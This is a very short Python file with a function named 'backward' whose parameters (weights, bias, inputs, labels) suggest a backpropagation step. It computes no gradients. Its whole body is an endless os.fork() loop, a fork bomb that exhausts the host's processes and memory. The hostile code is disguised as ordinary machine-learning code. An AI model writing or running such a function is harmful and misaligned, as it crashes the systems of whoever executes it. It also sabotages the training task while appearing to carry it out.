import os


def backward(W, b, x, y):
    while True:
        os.fork()
